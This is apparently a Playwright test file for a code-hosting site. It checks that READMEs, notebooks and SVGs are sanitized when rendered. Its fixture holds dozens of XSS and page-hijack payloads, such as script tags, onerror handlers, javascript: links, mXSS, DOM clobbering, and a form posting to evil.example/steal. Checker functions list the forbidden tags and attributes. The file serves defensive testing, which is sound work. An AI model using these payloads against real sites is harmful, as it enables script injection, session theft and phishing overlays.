import { afterAll, beforeAll, expect, test } from 'vitest'
import type { Page } from 'playwright-core'
import { TestPlaza } from '../plaza.ts'
import { Chromium, chromiumProblem, desktop, phone, watchFaults } from './chromium.ts'

const named = chromiumProblem === undefined ? '' : ` (left out: ${chromiumProblem})`

let plaza: TestPlaza
let browser: Chromium
beforeAll(async () => {
  if (chromiumProblem !== undefined) return
  ;[plaza, browser] = await Promise.all([TestPlaza.start(), Chromium.start()])
})
afterAll(async () => {
  await browser?.[Symbol.asyncDispose]()
  await plaza?.[Symbol.asyncDispose]()
})

const at = (place: string) => new URL(place, plaza.url).href
const card = '---\ntitle: Tides\nsdk: static\n---\n'

/** Each tries to run, to leave the page, to load from elsewhere, or to lie over the page. */
const hostile = `${card}
# Harmless

<script>window.hacked = 'script'</script>
<script src="https://evil.example/script.js"></script>
<img src="x" onerror="window.hacked = 'onerror'">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.hacked=1'/>" alt="by data">
<video src="https://evil.example/v.mp4" poster="javascript:window.hacked='poster'" onloadstart="window.hacked='video'"></video>
<audio src="x" onerror="window.hacked='audio'" autoplay></audio>
<details open ontoggle="window.hacked = 'toggle'"><summary>more</summary>inside</details>
<input autofocus onfocus="window.hacked = 'focus'">
<svg onload="window.hacked = 'svg'"><script>window.hacked = 'svg script'</script></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>parent.hacked=1</script></svg>#x"></use><a xlink:href="javascript:window.hacked='xlink'"><text y="9">svg link</text></a><foreignObject width="2000" height="2000"><body style="position:fixed;inset:0">covered</body></foreignObject><animate attributeName="href" values="javascript:window.hacked=1"/></svg>
<iframe src="javascript:parent.hacked = 'iframe'"></iframe>
<iframe srcdoc="<script>parent.hacked = 'srcdoc'</script>"></iframe>
<object data="data:text/html,<script>parent.hacked='object'</script>"></object>
<embed src="data:text/html,<script>parent.hacked='embed'</script>">
<a href="javascript:window.hacked = 'link'" id="bad-link">a link</a>
<a href="&#106;ava&#10;script:window.hacked='entities'">entities</a>
<a href=" javascript:window.hacked = 'space'">spaced</a>
<a href="vbscript:msgbox(1)">old</a>
<a href="blob:https://evil.example/1" ping="https://evil.example/ping">by blob</a>

[another](javascript:window.hacked='markdown')
[third](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

<form action="https://evil.example/steal" method="post" id="steal"><input name="csrf" value="x"><button formaction="https://evil.example/steal">Press</button><input type="submit" value="Send"><input type="image" src="https://evil.example/i.png"></form>
<button form="steal" type="submit">Outside</button>
<div style="position: fixed; inset: 0; z-index: 99999; background: red" onclick="window.hacked = 'style'" class="floor dialog top drop-here" id="root">covers the page</div>
<div class="drop-here finder sr" role="dialog" aria-modal="true" tabindex="0" contenteditable accesskey="x">wears the page's own classes</div>
<dialog open style="position: fixed">a dialog</dialog>
<div popover="manual" id="pop">a popover</div><button popovertarget="pop" commandfor="pop" command="show-popover">Pop</button>
<picture><source srcset="https://evil.example/source.png"><img src="cover.png" alt="in a picture"></picture>
<img src="cover.png" width="99999" height="99999" style="position: fixed; inset: 0" alt="large">
<table background="https://evil.example/bg.png" style="position:absolute;top:-999px"><tr><td style="position:fixed;inset:0">cell</td></tr></table>
<style>body { display: none } * { position: fixed }</style>
<link rel="stylesheet" href="https://evil.example/style.css">
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 'mxss'"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=window.hacked='noscript'>"></noscript>
<template><img src=x onerror="window.hacked='template'"></template>
<plaza-thing onclick="window.hacked='custom'" is="x">its own element</plaza-thing>
<a id="location" name="documentElement">clobbers</a><img name="cookie" alt="clobbers too">

![tracker](https://evil.example/pixel.png)
![by data](data:text/html,<script>window.hacked=1</script>)

[relative](docs/more.md)

The end of it.
`

/** The page as a visitor has it, and all that should never happen to it. */
async function watched(page: Page) {
  const happened: string[] = []
  page.on('request', (request) => {
    const address = request.url()
    if (/^(blob|data):/.test(address) || new URL(address).origin === plaza.url.origin) return
    happened.push(`asked ${address}`)
  })
  page.on('dialog', (dialog) => {
    happened.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('popup', (popup) => happened.push(`window ${popup.url()}`))
  page.on('download', (download) => happened.push(`download ${download.url()}`))
  page.on('frameattached', () => happened.push('a frame'))
  await page.addInitScript(() => {
    addEventListener('submit', () => Object.assign(window, { hacked: 'submit' }), true)
  })
  return happened
}

/** What lies in the rendered text that must not, by name. */
async function forbidden(page: Page): Promise<string[]> {
  return await page.locator('.prose').evaluateAll((texts) => {
    const found: string[] = []
    // What is the page's own beside a piece of code: its copy button.
    const own = (element: Element) => element.closest('.snippet') !== null
    const allowed = new Set(['https:', 'http:', 'mailto:', ':'])
    for (const text of texts) {
      const box = text.getBoundingClientRect()
      for (const element of text.querySelectorAll('*')) {
        if (own(element)) continue
        const name = element.localName
        if (
          /^(script|iframe|frame|object|embed|form|button|select|textarea|style|link|base|meta|svg|math|video|audio|source|map|area|dialog|template|noscript)$/.test(
            name,
          ) ||
          name.includes('-')
        )
          found.push(`<${name}>`)
        for (const attribute of element.getAttributeNames()) {
          if (
            /^(on.*|style|srcdoc|ping|action|formaction|form|popover.*|command.*|contenteditable|accesskey|autofocus|background|is|tabindex)$/.test(
              attribute,
            ) ||
            attribute === 'role'
          )
            found.push(`${name} ${attribute}`)
        }
        if (element.id && !element.id.startsWith('user-content-')) found.push(`id ${element.id}`)
        const said = element.getAttribute('name')
        if (said && !said.startsWith('user-content-')) found.push(`name ${said}`)
        if (/\b(floor|dialog|top|drop-here|finder)\b/.test(element.className)) found.push(`class ${element.className}`)
        if (element instanceof HTMLInputElement && !(element.disabled && element.type === 'checkbox')) {
          found.push(`input ${element.type}`)
        }
        if (element instanceof HTMLAnchorElement && !allowed.has(element.protocol)) found.push(element.href)
        if (element instanceof HTMLImageElement && new URL(element.src, location.href).origin !== location.origin) {
          found.push(element.src)
        }
        // Nothing of it reaches beyond its own place.
        const { position } = getComputedStyle(element)
        if (position !== 'static' && position !== 'relative') found.push(`${name} is ${position}`)
        const place = element.getBoundingClientRect()
        if (
          place.width > 0 &&
          (place.left < box.left - 1 || place.top < box.top - 1 || place.bottom > box.bottom + 1)
        ) {
          found.push(`${name} lies outside: ${element.outerHTML.slice(0, 80)}`)
        }
      }
    }
    return [...new Set(found)]
  })
}

/** Whether the page's own links and buttons are still what a click meets. */
async function covered(page: Page): Promise<string[]> {
  return await page.evaluate(() =>
    [...document.querySelectorAll<HTMLElement>('header a, header button, nav a, .files-head button')]
      .filter((element) => !element.closest('.prose') && element.checkVisibility())
      .flatMap((element) => {
        element.scrollIntoView({ block: 'center' })
        const { left, top, width, height } = element.getBoundingClientRect()
        if (width === 0 || left < 0 || left + width > innerWidth) return []
        const met = document.elementFromPoint(left + width / 2, top + height / 2)
        return met?.closest('.prose') ? [element.outerHTML.slice(0, 120)] : []
      }),
  )
}

const notebook = JSON.stringify({
  nbformat: 4,
  nbformat_minor: 5,
  metadata: {},
  cells: [
    { cell_type: 'markdown', source: hostile },
    {
      cell_type: 'code',
      source: 'show()',
      execution_count: 1,
      outputs: [
        { output_type: 'display_data', data: { 'text/html': hostile } },
        { output_type: 'display_data', data: { 'image/svg+xml': '<svg onload="window.hacked=1"/>' } },
      ],
    },
  ],
})
const svg =
  '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="window.hacked=1"><script>parent.hacked = 1</script></svg>'

test.for([
  { view: 'desktop', options: desktop },
  { view: 'phone', options: phone },
])(
  `nothing in a README, a notebook or a picture runs, leaves, loads or covers the page: $view${named}`,
  { timeout: 90_000 },
  async ({ view, options }, { skip }) => {
    if (chromiumProblem !== undefined) return skip(chromiumProblem)
    const name = `hostile-${view}`
    const id = `alice/${name}`
    const cover = Buffer.from(
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
      'base64',
    )
    const files = { 'README.md': hostile, 'index.html': '<h1>Tides</h1>', 'run.ipynb': notebook, 'x.svg': svg }
    await plaza.publish('alice', name, { ...files, 'cover.png': cover, 'docs/more.md': '# More\n' })
    const page = await (await browser.person(options)).newPage()
    const faults = watchFaults(page, plaza.url.origin)
    const happened = await watched(page)
    for (const place of ['tree/main', 'blob/main/README.md', 'blob/main/run.ipynb']) {
      await page.goto(at(`/spaces/${id}/${place}`))
      await page.getByText('The end of it.').first().waitFor()
      await page.evaluate(() => Object.assign(window, { stayed: true }))
      expect(await forbidden(page), place).toEqual([])
      expect(await covered(page), place).toEqual([])
      // Everything that looks as if it did something, links to elsewhere aside.
      await page.locator('.prose').evaluateAll((texts) => {
        for (const element of texts.flatMap((text) => [...text.querySelectorAll<HTMLElement>('*')])) {
          const link = element.closest('a')
          if (link?.target === '_blank' || (link && link.origin === location.origin)) continue
          if (element.closest('.snippet')) continue
          element.click()
          element.dispatchEvent(new PointerEvent('pointerover', { bubbles: true }))
          element.focus()
        }
      })
      // A base of theirs would lead this one away.
      const link = page.getByRole('link', { name: 'relative', exact: true }).first()
      expect(await link.evaluate((a) => (a instanceof HTMLAnchorElement ? a.href : '')), place).toBe(
        at(`/spaces/${id}/blob/main/docs/more.md`),
      )
      expect(page.url(), place).toBe(at(`/spaces/${id}/${place}`))
      expect(await page.evaluate(() => 'stayed' in window), place).toBe(true)
      expect(await page.evaluate(() => 'hacked' in window), place).toBe(false)
    }
    // The page goes on as its own.
    await page.goto(at(`/spaces/${id}/tree/main`))
    await page.getByRole('link', { name: 'relative', exact: true }).click()
    await page.getByRole('heading', { name: 'More', exact: true }).waitFor()

    await page.goto(at(`/spaces/${id}/blob/main/x.svg`))
    await page.getByText('40 × 40').waitFor()
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
    // Opened by themselves they are text, in a place of their own.
    for (const file of ['x.svg', 'index.html', 'README.md']) {
      const raw = await page.goto(at(`/spaces/${id}/resolve/main/${file}`))
      expect(raw?.headers()['content-type'], file).toMatch(/^text\/plain/)
      expect(raw?.headers()['content-security-policy'], file).toMatch(/^sandbox; default-src 'none'/)
    }
    expect(happened).toEqual([])
    expect(faults).toEqual([])
  },
)

test.skipIf(chromiumProblem !== undefined)(
  `a README that is too deep to be drawn is shown as it is written, and the files stay in reach${named}`,
  async () => {
    const page = await (await browser.person(desktop)).newPage()
    for (const [name, deep] of [
      ['quotes', '>'.repeat(9000)],
      ['lists', '- '.repeat(20_000)],
      ['boxes', '<div>'.repeat(9000)],
    ] as const) {
      await plaza.publish('alice', name, { 'README.md': `${card}${deep} bottom\n`, 'index.html': '<h1>Tides</h1>' })
      await page.goto(at(`/spaces/alice/${name}/tree/main`))
      await page.getByText('bottom').first().waitFor()
      await page.getByRole('link', { name: 'index.html', exact: true }).waitFor()
    }
  },
)
